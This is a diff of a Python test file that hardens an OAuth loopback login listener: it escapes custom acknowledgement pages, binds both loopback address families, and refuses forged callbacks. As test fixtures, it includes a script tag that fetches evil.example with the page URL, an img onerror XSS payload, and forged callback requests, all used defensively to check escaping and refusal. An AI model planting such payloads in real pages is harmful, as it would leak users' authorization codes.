@@ -30,7 +30,12 @@ import planet_auth_utils
 import planet_profiles
 from planet_profiles import AuthContext, AuthError, LoginRequiredError, OAuthError, StorageError
 from planet_profiles._flows.authcode import _Attempt, pkce_challenge
-from planet_profiles._flows.loopback import DEFAULT_ACKNOWLEDGEMENT, CallbackListener, acknowledgement_page
+from planet_profiles._flows.loopback import (
+    DEFAULT_ACKNOWLEDGEMENT,
+    CallbackListener,
+    acknowledgement_page,
+    page,
+)
 from tests.fixtures_devserver import DevServer, complete_browser_login
 
 DRIVER = Path(__file__).resolve().with_name("browser_driver.py")
@@ -189,18 +194,28 @@ def test_pinned_port_and_localhost_are_used_as_configured(devserver: DevServer, 
 def test_acknowledgement_page_from_a_file_never_shows_the_code(
     devserver: DevServer, browser: Browser, tmp_path: Path
 ) -> None:
-    page = tmp_path / "ack.html"
-    page.write_text("<p>custom acknowledgement</p>")
-    ctx = context(devserver, authorization_callback_acknowledgement_file=str(page))
+    text = '<script>fetch("https://evil.example/?" + location)</script> custom acknowledgement'
+    ack = tmp_path / "ack.html"
+    ack.write_text(text)
+    ctx = context(devserver, authorization_callback_acknowledgement_file=str(ack))
 
     ctx.login(allow_open_browser=True)
 
     report = browser.report()
     code = parse_qs(urlsplit(report["redirect_url"]).query)["code"][0]
-    assert (report["status"], report["body"]) == (200, "<p>custom acknowledgement</p>")
+    assert (report["status"], report["body"]) == (200, page("Login complete", text))
+    assert "<script>" not in report["body"] and "&lt;script&gt;fetch(" in report["body"]  # inert text
     assert report["headers"]["Cache-Control"] == "no-store"
     assert report["headers"]["Referrer-Policy"] == "no-referrer"
+    assert report["headers"]["Content-Security-Policy"].startswith("default-src 'none'")
     assert code not in report["body"]
+
+
+def test_inline_acknowledgement_is_text_in_the_fixed_page() -> None:
+    client = offline_client(authorization_callback_acknowledgement="<img src=x onerror=alert(1)>Thanks & bye")
+    shown = acknowledgement_page(client.config, file=client.file)
+    assert shown == page("Login complete", "<img src=x onerror=alert(1)>Thanks & bye")
+    assert "<img" not in shown and "&lt;img src=x onerror=alert(1)&gt;Thanks &amp; bye" in shown
 
 
 @pytest.mark.integration
@@ -216,21 +231,43 @@ def test_stray_requests_are_refused_and_the_login_still_completes(
 
 
 def test_listener_binds_loopback_only_and_keeps_the_configured_host() -> None:
-    with CallbackListener("http://localhost/callback", handle=lambda query: "code") as listener:
+    with CallbackListener("http://127.0.0.1/callback", handle=lambda query: "code") as listener:
         host, port = listener.bound_address
-        assert host == "127.0.0.1"
-        assert listener.redirect_uri == f"http://localhost:{port}/callback"
+        assert host == "127.0.0.1" and listener.bound_hosts == ("127.0.0.1",)
+        assert listener.redirect_uri == f"http://127.0.0.1:{port}/callback"
         with pytest.raises(OSError):  # not bound to 0.0.0.0: another loopback address gets no answer
             socket.create_connection(("127.0.0.2", port), timeout=2).close()
         with socket.create_connection(("127.0.0.1", port), timeout=2):
             pass
 
 
-def test_ipv6_loopback_redirect_binds_ipv6_loopback() -> None:
+def _has_ipv6_loopback() -> bool:
     try:
-        listener = CallbackListener("http://[::1]/cb", handle=lambda query: "code")
-    except AuthError:
-        pytest.skip("no IPv6 loopback here")
+        with socket.socket(socket.AF_INET6, socket.SOCK_STREAM) as probe:
+            probe.bind(("::1", 0))
+    except OSError:
+        return False
+    return True
+
+
+def test_localhost_listens_on_both_loopback_families() -> None:
+    """SEC-10: `localhost` may resolve to `::1`; no other process may take that family's port."""
+    with CallbackListener("http://localhost/callback", handle=lambda query: "code") as listener:
+        port = listener.bound_address[1]
+        assert listener.redirect_uri == f"http://localhost:{port}/callback"  # as registered at the server
+        if not _has_ipv6_loopback():
+            assert listener.bound_hosts == ("127.0.0.1",)
+            return
+        assert listener.bound_hosts == ("127.0.0.1", "::1")
+        with socket.socket(socket.AF_INET6) as squatter, pytest.raises(OSError):
+            squatter.bind(("::1", port))  # taken by the listener
+        answer = requests.get(f"http://[::1]:{port}/callback?code=c&state=s", timeout=5)
+        assert answer.status_code == 200 and listener.wait(5) and listener.code() == "code"
+
+
+@pytest.mark.skipif(not _has_ipv6_loopback(), reason="no IPv6 loopback on this machine")
+def test_ipv6_loopback_redirect_binds_ipv6_loopback() -> None:
+    listener = CallbackListener("http://[::1]/cb", handle=lambda query: "code")
     with listener:
         port = listener.bound_address[1]
         assert listener.bound_address[0] == "::1"
@@ -269,14 +306,29 @@ def test_an_idle_connection_does_not_block_the_callback() -> None:
     assert listener.code() == "the-code"
 
 
-def test_a_busy_pinned_port_is_a_typed_error() -> None:
-    with socket.socket() as busy:
-        busy.bind(("127.0.0.1", 0))
+@pytest.mark.parametrize(
+    ("family", "address", "redirect"),
+    [
+        (socket.AF_INET, "127.0.0.1", "http://127.0.0.1:{port}/"),
+        (socket.AF_INET6, "::1", "http://localhost:{port}/"),  # SEC-10: localhost needs ::1 too
+    ],
+    ids=["ipv4", "localhost-ipv6"],
+)
+def test_a_busy_pinned_port_is_a_typed_error(
+    family: socket.AddressFamily, address: str, redirect: str
+) -> None:
+    if family == socket.AF_INET6 and not _has_ipv6_loopback():
+        pytest.skip("no IPv6 loopback here")
+    with socket.socket(family) as busy:
+        busy.bind((address, 0))
         busy.listen()
         port = busy.getsockname()[1]
-        with pytest.raises(AuthError, match=f"port {port}") as caught:
-            CallbackListener(f"http://127.0.0.1:{port}/", handle=lambda query: "")
-    assert caught.value.key == "local_redirect_uri"
+        with pytest.raises(AuthError, match=f"{address} port {port}") as caught:
+            CallbackListener(redirect.format(port=port), handle=lambda query: "")
+        assert caught.value.key == "local_redirect_uri"
+        if family == socket.AF_INET6:
+            with CallbackListener(f"http://127.0.0.1:{port}/", handle=lambda query: ""):
+                pass  # the IPv4 port was released again (and a literal address needs no ::1)
 
 
 # --- refused callbacks: no token request --------------------------------------------------------------------
@@ -284,21 +336,59 @@ def test_a_busy_pinned_port_is_a_typed_error() -> None:
 
 @pytest.mark.integration
 @pytest.mark.parametrize(
-    ("mode", "match"), [("tamper-state", "`state` does not match"), ("drop-iss", "RFC 9207")]
+    ("mode", "error", "match", "page"),
+    [
+        # the right state without its RFC 9207 `iss`: this login's response, refused; the login ends
+        ("drop-iss", AuthError, "RFC 9207", "Login failed"),
+        # SEC-09: the only response carries another `state`: refused, and the login waits on until its timeout
+        ("tamper-state", LoginRequiredError, "within 8 s", "Not this login"),
+    ],
+    ids=["drop-iss", "tamper-state"],
 )
-def test_tampered_callback_is_refused_without_a_token_request(
-    devserver: DevServer, browser: Browser, mode: str, match: str
+def test_a_refused_callback_leads_to_no_token_request(
+    devserver: DevServer, browser: Browser, mode: str, error: type[Exception], match: str, page: str
 ) -> None:
     browser.mode(mode)
     before = code_requests(devserver)
 
-    with pytest.raises(AuthError, match=match):
-        context(devserver).login(allow_open_browser=True)
+    with pytest.raises(error, match=match):
+        context(devserver).login(allow_open_browser=True, timeout=8)
 
     assert code_requests(devserver) == before
     report = browser.report()
     code = parse_qs(urlsplit(report["redirect_url"]).query)["code"][0]
-    assert report["status"] == 400 and "Login failed" in report["body"] and code not in report["body"]
+    assert report["status"] == 400 and page in report["body"] and code not in report["body"]
+
+
+@pytest.mark.integration
+def test_forged_callbacks_do_not_end_the_login_and_the_real_one_completes_it(
+    devserver: DevServer, browser: Browser
+) -> None:
+    """SEC-09: a wrong state, no state, and `error=` with a wrong state (what any local process can send)
+    are each answered 400; the real redirect that follows completes the login."""
+    browser.mode("forge")
+    before = code_requests(devserver)
+
+    token = context(devserver).auth_client().login(allow_open_browser=True)
+
+    report = browser.report()
+    assert report["stray"] == [400, 400, 400]
+    assert (report["status"], report["body"]) == (200, DEFAULT_ACKNOWLEDGEMENT)
+    assert code_requests(devserver) == before + 1 and token.access_token
+
+
+def test_forged_requests_to_the_listener_are_refused_until_the_real_one() -> None:
+    belongs = lambda query: "state=right" in query.split("&")  # noqa: E731
+    with CallbackListener(
+        "http://127.0.0.1/cb", handle=lambda query: "the-code", belongs=belongs
+    ) as listener:
+        url = f"http://127.0.0.1:{listener.bound_address[1]}/cb"
+        for forged in ("?code=c&state=wrong", "?code=c", "?error=access_denied&state=wrong", "?state="):
+            answer = requests.get(url + forged, timeout=5)
+            assert answer.status_code == 400 and "Not this login" in answer.text
+            assert not listener.answered() and not listener.wait(0.05)
+        assert requests.get(url + "?code=c&state=right", timeout=5).status_code == 200
+        assert listener.wait(5) and listener.code() == "the-code"
 
 
 @pytest.mark.integration
